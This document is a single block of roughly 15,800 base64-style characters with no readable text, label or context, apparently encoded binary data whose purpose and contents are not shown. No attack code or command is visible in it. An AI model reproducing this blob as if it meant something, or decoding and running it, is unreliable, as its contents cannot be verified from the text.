oKcBGaQ535OuH0NpHWKD8qR7lrFO732llFDjY71NdmOwgnXjVBvemNV9nLwSZ0mjqjs07bP89z5rJ8lkvSTbPH+W/y62Qc5vNx3rFuIF3m/oMRQGN2P93D3xwvWzKm48S1SbrZdEaBz2vDI4VyOsv3oY23LUqAeclxzrZ3lTj9GVm1hB+IcdyXWlrKKYMLcjCkkIM+ARkUYHxqKvzpI3DW8yrQ7pb+dx6C2eMiNjJdbC1zWaxqY8VDLZ+FXb9F93z0jUuAM/JKURRsJOlFuVWlfZmZoJsk5lOTybuvUV/19sZ9Hwf396ixVrTBeRgnuIEIZ5oy0QitrVqT77vkvWe3NY4xfDrBo4kGtDAVcoaptfNInE/mykf1giuhLfCyQBBR3kWjvO4pUUY2SfU89xw7tlTDPYDaWbXF5COLRGQGUWL66Dw1aejdsyhnFFqA0fmQQE08WCEC4VltlpbomA72TZN3GglqHvAF3Ts0/o7A1mc7hR3Xikw8sD2NFKEtAGpyb6K7ojeQxFm8Z/v/eb2kz4xVvgzQ5KihMFTNALSdOGsKkLj2ToWmk/nuw3b3n87HL9dYENv3Ha6GgH6UFPX7x9TdAKaISn67fcRr5+2fPIc8/K1V96YAH76AV1qh/0wgW1VzEpVZUUQri52n2TajQQD+Rm6nymfqcbl96lQTva4HT+VIw6GRp4Ux4vegrlmClWWG+fdxwoh6KVf3o7Gt35Aeo8/95DjmipRGR/IT9RD8H6yeF8g3DPdsIV3/d5PcR8OGAHWEjw7UnvDSi4rRdparERZMLE0C9oVL6w2YUh+ZlKmjE7h4ItKF/2XzIijDn1lGlUndtBHxc8KmzjaZkQdVKKfI6NjJWGhJFPhuEJcuU3zPYpji7p6Bm9n5qKNY0hS2XOna5h7SZ5qx95ve0yw8FtofFa1wmjnT0ZihJbNofPQ5RHSobpaE05Yo2eNvuhd7QJc8nvZeeGSVIcJQenoQJM6aTsOOHYDWAGxa5C17w3ZVXc0ZVAFXTM3nXn/1BJH4bHP1kmkcm4MZKPtwIg9lCjGiDnX20DAkSqZs3oL4/EPHKTpRsih0r/mZvZZO98GgI0pq9U9tPv29wJGqTp7CPihPdKCxcxBGAYlJNsb+dbr8WcoIy8GTbOaOdpGMZN3f5GV6UZ2mihRbkZ4wN2WiL6dGkBooUoDBvlR4aw/QoCA+ov8N2HTQmtH0AC4PY0YTXd1pCHw0vEswby61FBZ0BifINitzqvUoP0gfwXBK0AvrI9e7wfNR1BQcoMfDshdEpTAXMRIRTAgm3fNhmL6Rgd2L7XzuI2ZzfSbMK9kCFD3RpZyonMqjFu1LeUpRbtuJQ5kgalO9rdgsObpOD/dVIp1B62Q65MGe98r0eOv+vKkr0c6fwvta3QyH8LuTZHOUfYLrQaN4B/vlZaxbCf7SkulP1ZR0hmc+9ccKSaixN7Oh/SUbm1h/Ms5CL48JXv1UikhEQsuVmSmWePxeKx+oPjMqRUTRZaDsRGuEOB6zWg52VA9UWVBIGKd84kP2l2ybv+ubX5p+wUFm8TJoFH0fy1RchJe1pm1qbYrEGSAijjPYi4KV4Co4SZPNQ8b1PIO3253s7iX484GPYtYZ1YSe6fO7Rd/iNd7LtGUrNryQtIKkG41nKn0ln1/jZrMW4apONHjwnNK8zXBQraYLdryWczdBy0ZcSEX2MccU2oZLvJHG+U9uQDuMEcsTKENYaQgqSFrXjaS+BEgG160F75x4G281YHabzevhRi5VoKoWqdDXjpbX7LMOVTsBJph5zsidn3Fxc3fpA0WT3YN/YWwxaugruEpz0cA4XBBlCl7gzVI7+5MhA648cKWR676h2nABOM/zM2bnzecz3Ow/noDEkv/oND2YGOlw9dWNZW/sTjpJfz1g2Ixik6HraFdvVOA+w4y5oTX/TMDOuP+y86ZTzUU1alKzmemS4+vxIJv5gMdMszAv0ZMGzFNEQB8Wsh0D+rGkTA3NDL1URWUMKl5QWNFlX7kr9zWanH+VoOERO+ko6UsyqMTxsOS+x5cHUHZoK/ZCLHqWTr/QopN/qAGAr3B8JMgy1R8U/dSncep8A8mmtvfbJQ+wOh7QXco8eP/FG31BdDIkcKbG6jzjxxYmKhe4+AbydDglWqTgHUxCpLd1I7CYJ1ZaHaWginxSwW/5RSzuZcp2aKViAKo1PxD5GKrlBe764DFuL5CQSFigjOqz8Lsz/1kzTPMeN3zFILTAq1nLJoSDM2VQ62+m8bpyuUBnA8j+poDwHsc8o8pN6YksGfokdP8q48TbENAxQ0ze7gPZ72ldsau7LXTNm/7K+UTgyC+6ir0ik6s4/bEuKLtjRRmHcg/dT7iq8ARYOkQ2ckf/Ipj+OiHfD/8SDGh/VBtO2fpzQNqGzTJ5OLubiDCzZ9eMG1prPEXzyqhn07bOsBDW1ekgw2aNJ/33NosjfD4OOLgN7AQkno2icUpA2QX/q8tIgjHuK7+aU+5xqRu30wBbdQNCyyueg8r9krpuJsh7DR+pbj/xrK7e7IKMTsjordYgOgTYN9WNy2CW/YwCjzWQV7MBGCpLsblppnQRv9OKCrTwdIBIlnd2KzmHU6Dv2tpPIPMQV5uKgnXcGcnZzXUe7Axfe3v/WaxPyi+gfc9fMoU99qsLJVdcC0M9DUKzgbid3X/woww+CsACgklRJBIjpPYa9MFmJZVPTngZm3P4NY6Q13M8IeWkhE0yP/QmPWtHONjLUqdjLkPlIFy+dFC+My1XTLNOq+mIoYe/SJcmQgcZ1iKciP62BUMJuyIGiIk6xDVsd5LCY2toOpG0IU+57Q4ISkEYRh5Uoomc4/D6BcV186ZPEnyF5f+1Y4sDdp0tPofkc+2HuNYTmaPcnIz1K1M/tAuzoX0/0AYOvx0FU5x3b8am56ajrR9zlO9VsDrCJ/d5zjLAdBr41PfAVg866pAmz5ct1Ak+tu3Z8BZb3f8o0ktm67rkhRpRXaIFYH8a8wEjVk5flnndxMd03nkjbbnuzNDkRU5Jh7+KjXDF0Rp/GIP0XwTdcF8w+kcL0hbmJOGOx6wxdwnW7lhvIlPsl3d1DebK5cqK3H4FkJGrp0a31RqnXM42eCifwIj9TMeApkvN1LZc5u/6076ge2Q2D6NrhamlA/TTyKL2jq86JfBXDV0CUkt3WhLhc8l9srRrNWr0/PwsghKjde2XK2RVI9iB3Wug12qDZSdSROcQbOWvhM9Fg8Sl35mVQzwcmJthjCOWZzeAJAkscGZ7PhVUGjfZlkvX7NmfJ6TGKfrTPDrK3W+xzPTcbXd28fz5gMH+DanHAs9bqslCkzWqtK1rqpWMlU4wF7odENENKr1Z+C3gxtsGKGpKKZOJa+IdgEaWnfpFCDJLhNxIX24tyMLGk8PXTG55zceJ8dUXBnseLTf0lMIuCBF7I4o+Z0q4QoUB5Rw3CXy/VV26VEY+WJqAiMnuMlW9VJKOZc17+gcvl7WohJ6GbUQx9rRXb//FNxjcrmbmuPAfHtxOx1+eoMvq7e5TCh1rFIZ9U76ExZ83XgwZlpRxtSnyKSSw4eEuzA1AuY9w4D5UNo7zrbgDvulNCqfLmR7VdZTjR/QBR0yx0iGZ2fXwZlCSDhwHIcmuPolKAhWSZYSfHNyO+vNuEnQcTL23Uj1HPO8TvBKyTx70VdGbNhkei8hLEkJDop0U3VWMgk5vFsClDQmrKGfX0M9HzZqok/+FMtFhQS+Oo4HuJSEDy97JDigssv2FT67HbBdDI+vX774uWc9q0qo6muBYYZMmolp90AO51ofXeVjpuEWclYoX6OOYJbwkmNRLaoyoBKLPR7MRhdhZ+1NCTchM1cR5N4IkHecrBY+ffIeuHKVb8ZvYipZuiUdebz8M+DNHiScbA6/YISa0kGg1DbBcnCWhYGXdx55tpmBKecUg2gHmdl7g9hk5jqbOGPv50PhZxvlrbQgDp+c0zfxGvV5tOESMMVNy6uHLHSUBKH4FFY/QozsGeEMTmszDfszLKHf8XPpo4X2dDV28N0O4+Hj7bp4CdnIiO8jf7HQ0iGP3HAAXwtb5ome7UBYdrKWli+kElLrdzv2N+TZgGxvW+S8z0QiaaQ2bXMhn7M5xikg906gmddCckPLynaH0bVP8hVbx6C21lGtT8xA2nGmNnj5IsxvTnYRCRCBNjDKwTz1xbr89AEIQz59AlFaTaFlTCI7Tf4wP2eyh0fD4yOiXpqVvVozW1qbPE810Qt167NhX/8N0VWLtkYbC9RwZI681ix6LZwUmMzMbN3lyYhZGMAJkuGjaU3x1O3JGbM6ZeA5VxAFwKgdiz81WjPQbdXH2ovkYbYH2dDIshU+zeUTg3iNUzsx9eutXvNMgEPawssmEaX+DC+nkTedikBhWVGB88KYQATrOaK3Z2oLLFZgMRYoXsCbsewYf8DnA/BC8nIruNLnEqwjYvGKB93t+9JEaN2DrEfX6d8fYaggDrE/zsOPcQGXtmykDUfg/ViHvKTlIMHrcunpdRX4EdMkiM6DGgkV73kxerZzhhWEg20KhoRfOgaQGQr0TEscGGXzR6Fu9mlu9J4jdixyjk26RncXsWa+oZoRRUkM2TpJE3IQhj1+vq4eQnvr74YhpMT/d7qsd/gXv+0CyTNku79A/egzI+zFrUS4KqGFzPuRtBAVtsfmKPYbXk7llXrmDMH5zs5UVNBvGUJRHEWTtj+Doonye8TufNX5PZNU3nukc+Ew9RxM0IPv8sI+0plUqbED1cfGZH+myVx9IGaYw4ITHfKQ8aZ9r60SX78m7nZy1QKvzG/PQkNJTgkePRs2UjFH68EpKd29OlFU5MaXQXXnTkUMp+IQkpMkAgh4eHjd6SYPfklV/wxgLVv8BLYzfivdpWP6GaaNuMGC72xOXutSUxN7y7kFTGch77PFGcRthK077fhbx7+m9Hm4Wh7KzOhRTH3wcMoqswCO4fxSYB6s8Z2tRRm3+4Aj2mA1u0g4OgD+VMe3IfUwhBG3yS6aMeRj1CL3c6ZCyGNvJp5duBkTjPoCuVvaN6/xxhmChUfsobuOEDnty4PeTN+alLMOtS7PWJAUcOu8sLCMz3G3v+GpBbf8IXbsL7T3Gh6Zx+N4F4E0ib4/D087hRnJOeYTqqX0x3LX4QH8G9m84dhPpYlVBMxHQE3xE6D5RlX/+yxHrVhFm1FBA0mxqCVc3OX8gycePOC9nuxUmgs106FX+Iksbw7tFB0PY5oyZ5ef6mxarbR2hka26VTdN6fzOKHvRYsLCYDx/SMUeFlNqaK7Lov/Z8p5RdXvG1AIYcxLPEWFzZIGpC9Uc7Q9dBW///Izc7/RiqAzGDKfd510ybW4+OOWVDlH0hOxGaSIQjKtnBseBXxMEDedQuRXbjl6WPCBWXLEb3Uy31p8oVsfv7ZLUOG+MC4sUA6pChm1KJHjnn04ocqqJY58j7iv0bD1SK3gGbp8nc2sEvF7PUrOh1tw8aLf9ST7Sg45rkX9B3T/PoVLk1Ev3E6MLswzw9pI4nuOCs5+AtbppjU9WsWaB9gIrf5EpbS0SkldCtOXxO7Oou8Sx1nPFPKkcpv+f87Payfn1XhwPOao+hhc+fFQgVRis3+OCimRiMlArUYL+h7ziaFBJ3HsLTLWoWz/CZOZ5/9a5anXRin88dYP0D7Ud7JG7eetyNV0iMIPD3/igVooSIAcMiHpqrghgwYPIY77iIJV889ZpfIxRSZStuJotaqdb+UZ4HzMutMCmF16juaGvgUTAeI2mgz1iie0ju+LSh14LMocHuVot15xldjra21w+K039Zx7sXXg2UHirlil4ByPJT1ixF9zrtKjCnMTTJ04B13Ix/OyjR5J6qELnUtNstZwR+mKhA0ADP4+9MDHqohI/rXi9BgB9rYJKfmXuWtKxE6dfcXfxkYl4fpFLmZNjv7ihHnNN0nF3sFfYG6BdnFeLhuIkXFHEBMio7EgbL1JKIaLSRNvIyfVTGUMoCDs0BV23tlMOdJJZ/gN16/SMYVFmLtYFyhYGi1W44OlLAjMf5U2YgHdJhL+eRuojo+ehNUJYMIzhn2cx/Ldo5dDnXryphhgpOgYl6aHdzkFmj9ju8bZ0SDDl9Bfs7LU+rjgROkhOyfsOddl9w3WepvxOOxkjzdXd64on+1TyeoWufpn5fNDuEZ9/qLR8msYMETFcrtII21WAreMJsf4sSrKmIqidD5rrTQsV9jLb8jeciyxr5vXakljhRvhjLPkbq+P40Fxc3dLwuxrZQCwfzICccB5QHyUmUwo8Ww4k9myFSx/wE1B4D6uFrBTb0KaQKFq3W2KlCgOakiBfBiEtP+svsFSC2sVrW9TGDxYYQIHagkRP9J0OVoiIYh5GwLq4eWRaEov8Kbe1LgrUd7BFZjn1MDQyj4/xm9C64vizzeKEX+2Aaii23AmAOZm+t7HUbpHcGpL9v06773XWk314LnvJmipA/82BitqQbB/OOm78ChPg3taTVof8TueiIAptciQEhMG8hSZD0a2zS0G3BRP+Wq2NLwF56g1kvVqPHIwRfku5dd+wSPvflEEAEavybSD/gCdM89vVgxqPK42Eo6+yoy/ADOhrmJq9b3yhDSiE/0TU4D7g3IvPe0xo06abvFrEAjPb8VaTecz7XVciBNslB9B2k6e0CQWzqezyBaer8hsRu/GUY3IIigJDNSPn4BNG1XASObMwhVCgr+0yO5cEpmUYIvrOWioRIlqiuxGfxthCWK0Gj+9e7MUl76M/E2I2btQFv/Uwj+oCXQaCSOB6zkK4Z7kHGQ8Ia6XfzrRdO05bYwFULlYiIthD/MkyBp6o8endd9rPB1QciuQPOBJfSi6MhL1U+Pfup7yXfC0+oxgv06oOzMghg/QXa7KSCdnzyUONEqMZF6QjkrlY5naV5V5+ZhNJFUpgLdqXnQkchRX5XghvCaTF8SuvIHSyCynKEBlmvkL4RHtg1g0HGSpyQh7edTEUSByE9CzNCeSIYPQr7jhnH6jiC/JxSS/rqxOXs78s/cVjQoH3Im+NonvVr3iqxrhK/8VH+ahZmuNz17B3j615HSgJ+6M5EKjkUPsOWRMEUtB3aSi3TMIctowDGagLpS/Ldf0cuAdsaWE+BJKll7vjuT9tw6aYF97OlY2qZ/qi/ShritGiT3UgItM3GI0I91rPEI05IbHUtx2CQinjPNGn2NKeaY6cIfheuAxHgAOoWRC5BahsqD88sG9TDiaiLNCuyLshhPp5b5VI4H329gs6NDIC1QqxpJ0XmqAe9vArGFE7e7HPu7Oug2R4EeK7dzK7WaPFhxadBIklohBOrgnyQ0GV7J4LZNdVTmu5LD/imy5PX1Z3e+chjW2oLv9oI1chhDqBTvgPYT8ko5zIn0khKybCrR0p01tQkMuTPlRttH08bZOJNMtXItuB4FVGM+wGgWbpab5idceFAIImKbkSapslgZH+6zN6bsfI70ESbqx0e17HPQUPjOBKeFmZW+fTwYEIP7GPoXm9LLLr9nV0Whs5FFR+rv73t5j57G/oWvS5AYL3+0ngUfW92O15UFI5kmB75KCXn8vegZF2/C7rn88DsTAUlf3MRW/+gimBym/0aiDB5CnPJfzAmpJUxp7lC5ctqgqH8XCAqkxbTh/yh4FXmd7rM1W6522qoYOo1RENG9Oy5oVD/Eg7DvZaZ7TCApDqScWyxpIlr4pvlYV/tq7qHs9Vr9K1MiXzTxSG2o6DyJ2AF4Wt+U789UlkunybROAblSfuOdy1T5brya5YzJdsPA4K4QFPWZdamgZX85uw+oC7n4RuWNUVHZme9GcVcEanI2VSfde1+q64+HPkd9Yk/OHYGNDTkfR73S72n5NZEkVIfyHFyWiFucv31ttvsJbU7S2ZbnGst6hePJEYn0Js2EueSQeUAF9tNrxPzjbT4y4b0B8VruJ73XxNdgccn3weVIFWIgkSIQjhdamf43nmpz72Wv/Y2acBD05r//JWoyROWLKp+22HnS4Nn3T5e9+YPRDSXH/qtySbbGfaI7xbCl42dSpFI3nYC8U5VEIkCy1LNCI20phzlPkdhq12OUUyBfw6GPb2nI+8rGojDJMFbdSgMBGsn69y8jKvoL7A7hfwlBpJq8WLlSTDEbIQfMufJw3ofBUc05VDL5MrSawJjZaIMYjorIrwgIamL85uc11q/gTDcQd/hqPF3C6HSWI1iDzucaISmB93BZFi06n3q6leT2MqT6JoJTsORwWvNmiaQV43H0IQ+N8p2VoFEkQE0cH/vDXMltv/rcRZK3HCwMlJ3heQxlOFH+9XwsPPxW6ly2fH8kZp4YCnOg7eprq5lToI8PVax7PZiH+I/h37KAS1GkD53KB+Pm/Xdn3ex9Zqncq0Bb1eEyRnoMG2Vwb1IueymoyH9OPdFi1mpKp+EdLMj5yQDXX1F7+am6xjmRh8AVV1PYvMPEE1LFlmBgTVMKbI+qBKI5QPYtGjaHZ6ntmYpwNca2nDF/+Uqp5V9nJxJbJjWp23qtrSKR8tKQMTYvqws85fskTr8aOr/4gx43vPGuMnunaubpJHO8e/CAjoUIuC+By5jlcrb/JtGqIf7i+48tBvN26GBwktGc7Z148WLZ+FUoxGyt1GK4TVfzLbWamaJ9rgmg9f76phxZXyCHbWGG2QsHz7kF5lRO5hrGyXTMkFYQwIoZ1x97W9l7w8M5bvmK+2FT++AQAEv9pfxH5dhniucDjJzp2sB+UX1tEjEv59cwIq+L309CTk2wdWcrVcx2xxIzrZqamld7c15aAEeYXSfY1/E3vLtp+5Q9u4jxmniu3AEk9n/0DF68rC7VxH4UDWli+miGhamrVf83F+wQcX4psIl7dNNJgdk+t9nwzwmaEKA08nyqBSesOz2F4I+LBTyBH4rrqBy20GqefZFm+JMGEpiZQAIpOMbHOR9vdRZqyOGkI5iR5Ja13cqMngML1PjG6Kjqcz8nuxcCkl0hG3O3JeMBdujb/Slj+xqueaXL0Oiqx7lHyyTdMOlHTUZM06+DnNW7oiwKU3w+hF4yygpVd2Z0+bUf7M23DxGXQYbVHUFp0RKYiN51tybf04NlilniwyeRo1hU8UnBqNOgqVX1+VfF74GnNrPapS/lbBXpmZTyaZ5EXvAv04HXzU+8AdZCLZIV35iviva3aERyF3xsH4SmYTBXyEmcawwAGfvjXSnU0a80JeMPp3P59SodvDCraYpLwaq2ajP1h7QJ7ANjT/3bmeQVmo/8f6KHgPTct+yjdSoKCY3TSh06YSNWNXvBeTbWrx0efY3D0I2hwOM5jM0BzCcZ6rDF3WZFgUr9Wc9Gr0KHoBQwVyotnOSkJEUMK9nJ+O0lEJwkeh0aRJ+e2K7BQtfOgRkvgTHcdU9a6hHEAY1gPFCq4/3rz9f9T12yzj/GN2sTbDymgv7T+XpcAdnmNKdtlojZXvDM4ikeifwA9gGtBQlfciDxWwqlVKVMEjKZgvRDp7DvZfLKC/45U/CJnkVWkOY7YNgyNa3Cm0XDLC1WwrvHrYmc0bRNXShaIRpIuvHc72kB8KhG51xbrr35oVgj4P7bb17xMbQmXs1QWag76L8EPrjuMJ8FwJ8u4cQuS0mvAuUjTFfjdpnklQ5DN7DvQQBqdMUu+dWUS7W3S5sWBC6ZcJ7bIsiIls/AJDuXsGzNcBy/0YqLj7OuJi8rJnB6suCRcyxla1uoQ6RjMmLrmUsTJ+Vz0YPnfhbaM7CvAII44EADQA2Oqx/gKI3fQfR1Xx5DWyBSjsrooXG5yrBi9XBsOZiECnMPVNMhs+udIXRGJjDZArDoP/u2wJvYVnG7G5ayaRzhAYkKZQGiDOcWkur1mmPxP9cr0M8IlU7D3mIj3+EKAxf+kjv+1yb887Dtx9PsDhp0yVTRFNuhHoTqKgENIIsVZkFhHW/8zdiF8f7uIKSIY5pkKSb8tNXl5h2Hhpf4fxbRz1E3NF5Hlm+4nwwbgInQbSpTe9q6SYIwORrmE+aLwTnUirOBtaOSy20Id70kUrFAI2Cql65LIPpGBONYdr9n5Z2lYaVcUmeXd4SW7q0hlQnWwuGpZY9iav4QY4tj5AnAvDfVfPAsPvanKKb58riQe71ETRPnGp+AR9ryBZfQS2SYmRqONy9bYmyFHR/SgABdsi9MJoNjuwWehdzlBjE8HO3si/QMqsdsULbrhPL4o2YBNdds7zHELTTWTc4J9QBGzgw853EAc2c7LsAdMt9aDTvT5HYsi4QNyf5I/XvQXj5y3D/lLWoFB957ODhG/DlCBzqRP6VoaPQYlaXZgfqJIWJqwRGgOI2NQBlXBIQx2vJftlZdH8KBNAbEjqcLxGq23hzfpAE5doP6ZrTVVzMnxcOsV19vr0kkd6u+DMU2wrYwQlOE9RVey3LlNXZ6SMUd0KIBSPSKTrhGMdD8yKo0+GSOs7/zhDZmKKnysvi6UcyXL7lBIpdcUgx8XR/B6zdRvrSSx0AsO15y1TmDqspVGsgNCo0SMRGcnSjkgtjwqzlhtDZVdwGDJYSIkjxNxg20DMkp1zajT0oGoQFidcae5BZB16GFcZVYzboCUEwPyc4g93mbFlguSzgUs+RZ0gbsVr3kpJW6TVxRzpHvkvtwVJ9ASG8u1gFA+fdNh1NMujH5r71rha6szIw2eysY+uIxvokyyYT2GS4bnrQKXtuHUZ+zMcPHbdcTVM+mIsQb/F1naCZe6pQTEWr+r+5O0bRCfsCvf+mhzEFh3zFJRXGJAsEk+gIaBbYLPoPe+msqgdC3XDFsaLFoIkm3Dkl4WKiXsX0J98TlbufwFFDpLQRKqR3fM8noRL1zzVUfewjG9Qt7vrZVzFKYbRBcwPPzwlILE4HhhEeCJRfslizahvDliDXYPnYk35WyyOoUTQASr0S1KGg26iw7nhi1fW2POgb7FrrjorS7FAMqWrJddRkwwt1jHg3hWvYnkg5NLXjZoZc4wxMtydiCkc5PV+uqsILvpfEbhf4W44lFqoQhDJenTRhPdGHvifUtiUx4wRHTtU3nwOicD2ibOHKC9zKXT5zHxuupyldE2InJuacOA8cytH5l7W4T5MG8WInYG1v9In39kmfaJd3yz7RhaxkKS6kqJZ2qFVb4fAukk3FGhbZnbhiCmI96I3itXIGWgyyb0lnozgXwaTqozguEr/hZEC2rqGJVkg9BvOy8HsO289Jd00gUP/UO8NZZQEbvYgAYGA+RL6sjz5y+VrGGOSQygjRl+PKeK2kUOFMAnoa3bDmypPSHFSCMpDIH8cfppHYBFCnl8ajrvoH9gZm4Fc1Z5OiIcw/PP50Vkd089DYRQ8B7if9hJ48lOciIdNu64szF6+Y31tMJO2oyRhflSF2e7k8MF6rgweXc5VwWgwBk7zhFxrPdTFqthMghLErDML0L+bRgkLfCOGQzq6r36cySUja/cd4LiSh5sx44BM/y2FHiman+ouSzf/D+Q3VtEgCAZDA5RlvUUvF6fB0pAoIpXeTJf7Khn9dH0TMZk8pf/OTKBStfv2qoFwkpTluT9jAc+L2KuWFi93IzLe0hsoJZjjO956HZPzPxdkhybqOv6b9/xo2M9rzxHPuB5xPC0/h0ATWsz8kPmUKnkWUWR7XL8/CthuDIRSoAv8OLHAdYVhDNpDvymjn2ykfSLwJRNgysqUF4nJ58xHxM+PxFaFGBrH9N2WQoDMw0VLa+OUVzailCuN4PMlK8HIG0oBFbnBJVGQprWVzn+/4xsdn06qbrex8qr6wb2y+MEfEQt/YroCNLcDGsMxGOoxu8ns/YoG6JAhPgLN8xbA7jZfQ2yjtEz6tIx9/TJ0iOL0Wd9OCy4wXGRq0118pFIkj3QaT27w2BaF9u69OpfLT82Mm/eGoQnrjdWVvVWGkvYWHvDIqgi2Giw83UsjQ2oJdhQ0ps7JH2sxJWjxIDD6rAXNjnfKGVuj7NZdlGt/zUeUd0PobuY15kzZTaY/xhvy3HgEDqFEsLcqlr6LQksRRqHAGuGgl4cpx9s1HxVZm0/XxPSU8x+AcBSd8EHN1sQ0FD5E01Pm2J1sdaH/TdnGghvVH12kKmiWYwNC3TVEYPVi63ZaN1xZsyetBHDt7iCB9LYV7gkjjEHul8yi7A85/Oipe/+Aj2foNHka5f5kxAhVs8kV21cIUpl4vr3GRy3VyGH3de2nlREkfLIRoLsewZ4jgJyr/glakUx0idTAYAHLpMsFlxQiDkFYODhTjgJHmUaEe+owYvmoqVyZo89R/JklNTcaSmR9GDNiYcjzDPP8lfhtBIRZ6e46/p2mbVCRkZ+HiUtGNpvR+UyjVexw3lrSgVP+lftNPNY269nqe15CY1ub5s8BLoCnyPo+3i82gXVUapJK3YyDg4MK9oqcYR3O42nw9k8LWt39x8l0ESNlWB7UcMO+ragPvJJMuvgYOHBbCB59uy+p/ZE61m8qKIEgHS0a0etD1G5q4cVGYyl6HHIBBcx6rLBfnHIrJMA6Y1SyDVemta1jQG9krIhnX+mqyYumCQC6MU59LI8Tk8vJyT9z0ubacpgKxty0W0w3axPG9S61NOLD0j74S3h+uHRtmU/OOPycUEpg1s3o50GrHfUYTVS7YnB75IRB8sKqxsA+zzwAuwU9jLWXl/Yhps3AyuXzyQrTm3vGuQJjMKuRIWadme9kRvTbDx5KRWCbxRWeKNf/VWEJRgoIblUUHL9Tjrz3qCKFIT3YL8C+I9xJIi35ufoGYek/MS//netGTvnoie5nQ73kjzpWCkTleBpstDjrkvWMFhQ3WHoyKWYMz+Rdvkg4FDUwcN1eNttGH93eDQijUhKJ70VdUvoNNs7UIstcfr2BLHZkCwjDo6RmHqEl7wWpjLWdO+GLMruSmvL6+tI/r77+0pHYxy1fAYgBTz4v0utrH2f+FbcccuwZKjsAL2TB++3ZNN773Hox4e/0XLcrOxI3WFhX7Q3/pfGvpLCHWZQCCOrGe+8NxYgOUGmHV2deVEOAIlri4zqRQSzuXSBYhwZ0CMZOtskna91DNMqirFoR4CoAK0yGOCZkBvA6IjODIiA9pY1I6t1xmr8vCIBRVcSxDX0BAXe1udXOv88KgBPzif15f5bE38X7R1AZ/5qe7MjEAEEZmJJKoTZ72xcszQZXuy8oVHoQDtdT6fZJ8nQnGH9lLdYiRmxQ0W90O3A/eZo6WJTRjatmROLV03PRBaQtHpaUfOvUeAZUZCFlmVY2QLMGp7/k56CBP3Q5+L2Z84zXDHfaRoCpgs7hZGMTES0B3apSsGij/fgwJc6NvwB0qqRQ7HCQImA/j+SdGsD/KzKf5d5ygH3uYIyDmS4b6d1qt822jMOwZGYnjyLPrlbwyEZ1vn8FBrG9L2hE/ZInwA3NFxf07wTaFKvny7Xti8NjSosD1dQERNnCM58PaD+/5vCi1ZlyP9zq0Rd0982pJ3qFf2yI0zCKexTJCVunE/KtKL6X4tK1RIh7fduS81ehMGxZMo5Ox9WLreyqrCeGFveUkDXsxNZBMK8caAQ9xzmKvs7gMzzJR9+ogwyCagIBDy1iob5rg18HM5T0Mr8zuoN97D2FM/HqHpgEd6uTQ9qZs+p5XZWSmzUIAniALbRAxCJJToGwN0nZ5yNV6iK6iZ2H+3DLcfmS5JmAII7hIPC+ZJHobw8dYMb4PcAAwr+JeunTV4seKS2QHW5LXu2+Y54h8cwDFW6p/dWgibhd/mzhEinYZXJBlMzo/xsMn3tWOy7MfizwoMNsvusd3fyT/zikpT2Zhg6/qVXgYPYXy6zTngYCeLFs2wFR5MiTcUSqwl6RZZEblUW9OW43FTxM5zVd/B13Q+v8NCW8fc4VI/BfpbtOMRLudmCfK4/8skYCW7OfE0NHN385DAL3kUoaYNt6EMqWIhhGHKHJGKNLCi1BaNVSLrZNo2fn+MV37Dk9D/MUKrg+QE2V39GiwWxpefIPHjkvCDONjeF+AC3wjtUIM+x8aGnbHUqSrLlXoE3AHxvolE8yb3B858P+K8mnTiVhw3Wc5LZ7CpcNHqUwaN4XPFA6L4vt94CFgSkIXBFCJAFlITFUCa/ElhJNDQ3bUIoOS3SCyUv5vdTZa7T6a2MGqfm25WC8EKxM2MqcFP5u58M+J/m7V45pSltdES0sRmUCHMOgEQepPiuDE7e6+3cNOhhG+dFAEJsfsITGmedzRus+Tek3bQXW6qAERE0Ku/fwu3Cm9upspmSx+it0msoG8FglzktEVN35gPDTKUsHEm7f2TIzOKof1lYjgUl2uVXC7fmj67UnfVS55NEgJjQRpc2eL610noNdNDuGBospZTY+nYK6D09iTQL7bXjqxfsqXbkEn+L55wuem/XJsFvdG0K0UDFlLN6RW7ZQd2JyizhOP0NSc+iKYpkGXoXOGzv8JUmiLrU5YMB+yHyWzbT6YE4C4pudv8AgmLYht7mAYzzkIi6HL4U8LOG6TGe5qIYMk+s2/kxq+WaQj4SsrWyVjvxaJLv8VHlfRVSzcdLmMhp/nQtwc3rmtU66JBzAHJhLrLwMgKK1FxBpcLdK4UddBvHcMyoo05TKqEabj5Zh14aFSMWzPKVKCFD0SSJPaSHR9okOYF8/0ojh1NF7F2791Lv/amV1Z2P9GP58cykrS9S+hWaEViGn/RtBi4cd6E+Bm/HywmPSB+zgNKuXaD7oBXaEIYapIs/KUJDbyMzYLxETCAgumzUoEbx4bGsI0y7giESjS6s60f69gZ3+xxRJVY5wVoMjGM3RZtouC8FQ5Ro0uFcPrgHd73c5Lx0quZ8dPViK/oOR52Ow5kxmIGWsClst1zXZgVsLpNrxqjmnOs82GWx7m/SCTUnBbAIAaJlpveWBAEebpVfZoMQJy9RhR5QjLCwwhpycuQigpV8eaPDZv5CTrlaIy9K5WDzP9WSC33qZWP+HrevfKnKy6ua9P9Ton08IszVISaCPuKABGm7G7nHHF+KXcM3IuaxirPrMHLi4zjchcX0vB2NHGxoQaI3PsCDb+K51wYezi1d25R+RkCqq+wCvnKC+ckUVOoNJh4FS3DjYPO5SgJ5Xqb+xTcXf5rPQ4QMqSa5jIyoFHhRFOZBVFsnnoqBgZlERueedI5rDMtQtmapy3ffMehxZxPNVxkOF+4iZ4mXHwPPg4QcM05j1NSykFtoixH1dlt+jce6EUGW9FHcMuFbvpztRWKS4Nb79ElHfQ8F6Azi0XBkHk1q39N4uGIdMg98AmaxpdHwIzpWimvYgOaEPV62pWMYVMzZwrr64C2CBi4SwYtD9eUvCJgg8mgzjC2ktrDznkXMRk2cLlx5Zf+ksCQ+zCG/vTOpjxdxuhmjIYTsvA9HB8lvCgeWGZtGmbKL+CTagD8uHda6o2uR1mSNOyWwwhQMK5966NkACZsZiaSzcqGED+6W+te68Nx76yRBfyh5KCjN4rXUWSecM1rf3m60xpg2u9nYh70W+X+nOo+HOqCETZ4Te6abs9z5Sia581YxPWdgl3CeqEUKNVioA3m+HTD5xA8dTr8nZivFw3uYNJMYgPhPo927f7g/8gIDE+DplJrqQsBI63rGY9L8FUOtdSwTvETzAq+dqMiSlhh5PbGZysRIrIAhhwNhQHX9AZL2Tw4+GRltmBO6Tjk4H4pTfG/UuV6O47ppj7AOZPOP2yj4XNIJIB9ppvjFhnP1NuQEtZUM4JhWYyuy8iH8jGmbL+M4ktVpMKe0iYMCLQ67LrbvF+YwtkrQCB8XuYQ6eNQnYzTH9ORFyOPNZz1OkaEQqtS2+ympZoX5M+7GyNKykX32xt9TZCuLB3OCyg9XSlNr5dC0BRQtl5pU